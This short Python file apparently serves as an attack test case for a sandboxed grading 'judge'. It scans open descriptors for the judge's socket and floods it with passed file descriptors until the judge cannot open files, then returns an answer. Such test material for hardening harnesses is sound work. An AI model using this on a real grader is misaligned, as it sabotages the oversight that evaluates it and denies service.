"""Send the judge open files over the own connection, as sockets can, until it may open none itself."""

import os
import socket
import stat

from honest import after_the_probe, parse

OUTCOME = "error"


@after_the_probe
def attack(text):
    for number in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                with socket.socket(fileno=os.dup(number)) as judge:
                    for _ in range(20):
                        socket.send_fds(judge, [b"x"], [0] * 200)
        except OSError:
            continue
    return parse(text)
